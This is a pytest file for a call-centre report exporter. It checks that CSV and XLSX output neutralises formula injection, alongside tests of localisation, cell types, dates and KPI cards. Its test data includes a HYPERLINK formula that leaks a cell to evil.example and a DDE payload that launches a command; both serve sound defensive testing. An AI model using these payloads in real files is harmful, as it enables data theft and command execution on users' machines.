"""Report exports: CSV and XLSX files that a spreadsheet opens as data, never as formulas."""

import csv
import io
import re
import zipfile
from datetime import date, datetime, timedelta

import pytest
from django.utils import translation

from callcenter import exports
from callcenter.metrics import SEOUL, Measures, ReportRow

DANGEROUS_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"클릭")',
    "-2+3",
    "@SUM(A1)",
    "+82-2-120",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _three_contacts() -> Measures:
    """Three calls: two answered within 20 s, one after 40 s; 2 min talk, 30 s wrap-up each."""
    return Measures(
        offered=3,
        answered=3,
        in_threshold=2,
        handled=3,
        wait_us=65_000_000,
        talk_us=360_000_000,
        wrap_us=90_000_000,
        tickets_opened=2,
        tickets_resolved=2,
        fcr_resolved=1,
        survey_answers=4,
        survey_satisfied=3,
    )


def _row(label: str, measures: Measures | None = None, hour: int = 9) -> ReportRow:
    return ReportRow(
        period=datetime(2026, 11, 30, hour, 0, tzinfo=SEOUL),
        key=1,
        label=label,
        measures=measures or _three_contacts(),
    )


def _xlsx_parts(body: bytes) -> tuple[list[str], str, str]:
    """The shared strings, the first sheet's XML and the styles of an XLSX file."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        shared = archive.read("xl/sharedStrings.xml").decode()
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        styles = archive.read("xl/styles.xml").decode()
    strings = [
        re.sub(r"<[^>]+>", "", item)
        .replace("&amp;", "&")
        .replace("&quot;", '"')
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("_x000D_", "\r")
        for item in re.findall(r"<si>(.*?)</si>", shared, re.S)
    ]
    return strings, sheet, styles


@pytest.mark.parametrize("name", DANGEROUS_NAMES)
def test_a_text_that_starts_like_a_formula_gets_a_leading_quote(name):
    assert exports.neutralise(name) == "'" + name


@pytest.mark.parametrize("text", ["민원상담", "Queue 1", "2+3", "a=b", "", "'quoted"])
def test_ordinary_text_is_left_as_it_is(text):
    assert exports.neutralise(text) == text


def test_the_csv_starts_with_a_byte_order_mark_so_excel_reads_korean():
    body = exports.report_csv([_row("민원상담")], interval="hour", group="queue")

    assert body.startswith(b"\xef\xbb\xbf")
    assert "민원상담" in body.decode("utf-8-sig")


def test_the_csv_header_is_in_the_pages_language():
    with translation.override("en"):
        body = exports.report_csv([_row("x")], interval="day", group="queue")
    header = next(csv.reader(io.StringIO(body.decode("utf-8-sig"))))

    assert header[:7] == [
        "Period",
        "Queue",
        "Offered",
        "Answered",
        "Abandoned",
        "Handled",
        "Service level",
    ]
    assert header[-6:] == [
        "Occupancy",
        "Tickets opened",
        "Tickets resolved",
        "Tickets transferred",
        "Tickets overdue",
        "Survey answers",
    ]
    assert "ASA (s)" in header and "AHT (s)" in header and "Wrap-up (s)" in header


def test_the_csv_holds_numbers_as_numbers_and_ratios_as_fractions():
    with translation.override("en"):
        body = exports.report_csv([_row("민원상담")], interval="hour", group="queue")
    header, values = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    row = dict(zip(header, values, strict=True))

    assert row["Period"] == "2026-11-30 09:00"
    assert row["Offered"] == "3"
    assert row["Service level"] == "0.6667"
    assert row["ASA (s)"] == "21.7"
    assert row["AHT (s)"] == "150.0"
    assert row["Talk (s)"] == "120.0"
    assert row["Hold (s)"] == "0.0"
    assert row["FCR"] == "0.5"
    assert row["CSAT"] == "0.75"
    assert row["Occupancy"] == "1.0"
    assert '"3"' not in body.decode("utf-8-sig")


def test_a_ratio_with_nothing_to_divide_is_an_empty_csv_cell():
    with translation.override("en"):
        body = exports.report_csv(
            [_row("x", Measures(tickets_opened=1))], interval="day", group="queue"
        )
    header, values = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    row = dict(zip(header, values, strict=True))

    assert row["Service level"] == "" and row["ASA (s)"] == "" and row["Tickets opened"] == "1"


@pytest.mark.parametrize("name", DANGEROUS_NAMES)
def test_a_queue_name_like_a_formula_is_neutralised_in_the_csv(name):
    body = exports.report_csv([_row(name)], interval="day", group="queue")
    _header, values = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))

    assert values[1] == "'" + name


@pytest.mark.parametrize("name", DANGEROUS_NAMES)
def test_a_queue_name_like_a_formula_is_an_inert_string_in_the_xlsx(name):
    body = exports.report_xlsx([_row(name)], interval="day", group="queue")
    strings, sheet, _styles = _xlsx_parts(body)

    assert "'" + name in strings
    assert "<f>" not in sheet and "<f " not in sheet


def test_the_xlsx_stores_measures_as_number_cells_with_percent_formats():
    body = exports.report_xlsx([_row("민원상담")], interval="hour", group="queue")
    strings, sheet, styles = _xlsx_parts(body)

    assert "민원상담" in strings
    offered = re.search(r'<c r="C2"([^>]*)><v>([^<]*)</v>', sheet)
    service_level = re.search(r'<c r="G2"([^>]*)><v>([^<]*)</v>', sheet)
    assert offered and 't="s"' not in offered.group(1) and offered.group(2) == "3"
    assert service_level and float(service_level.group(2)) == pytest.approx(0.6667)
    assert 'formatCode="0.0%"' in styles


def test_the_xlsx_period_is_a_date_cell_in_seoul_time():
    body = exports.report_xlsx([_row("x", hour=0)], interval="day", group="queue")
    _strings, sheet, styles = _xlsx_parts(body)
    period = re.search(r'<c r="A2"([^>]*)><v>([^<]*)</v>', sheet)

    # Excel's serial day of 2026-11-30 (midnight in Seoul, not 15:00 the day before in UTC)
    assert period and 't="s"' not in period.group(1)
    assert float(period.group(2)) == (date(2026, 11, 30) - date(1899, 12, 30)).days
    assert 'formatCode="yyyy-mm-dd"' in styles


def test_the_xlsx_names_its_filters_on_a_second_sheet_neutralised():
    body = exports.report_xlsx(
        [], interval="day", group="none", about=[("Queue", "=cmd|' /C calc'!A0")]
    )
    strings, _sheet, _styles = _xlsx_parts(body)

    assert "'=cmd|' /C calc'!A0" in strings


def test_an_export_file_name_carries_its_range():
    assert (
        exports.export_filename(date(2026, 11, 1), date(2026, 11, 30), "csv")
        == "open120-report-2026-11-01_2026-11-30.csv"
    )


def test_a_better_service_level_and_a_longer_wait_are_toned_good_and_bad():
    today = _three_contacts()
    before = Measures(offered=3, answered=3, in_threshold=1, handled=3, wait_us=30_000_000)
    with translation.override("en"):
        cards = {card.key: card for card in exports.kpi_cards(today, before)}

    assert cards["service_level"].value == "66.7%" and cards["service_level"].previous == "33.3%"
    assert cards["service_level"].trend == "up" and cards["service_level"].tone == "good"
    assert cards["service_level"].change == "33.3 pp"
    assert cards["asa"].trend == "up" and cards["asa"].tone == "bad"
    assert cards["asa"].change == "0:12"
    assert cards["offered"].trend == "same" and cards["offered"].tone == "neutral"
    assert cards["tickets_opened"].change == "2" and cards["tickets_opened"].trend == "up"


def test_a_service_level_under_the_target_is_flagged():
    card = exports.kpi_cards(_three_contacts())[0]

    assert card.key == "service_level" and card.alert and card.previous is None


def test_a_duration_column_reads_as_minutes_and_seconds_on_a_page():
    columns = {column.key: column for column in exports.COLUMNS}

    assert columns["aht"].display(_three_contacts()) == "2:30"
    assert columns["asa"].display(Measures()) == "–"
    assert columns["offered"].display(Measures(offered=12345)) == "12,345"
    assert timedelta(seconds=columns["asa"].value(_three_contacts())) == timedelta(seconds=21.7)
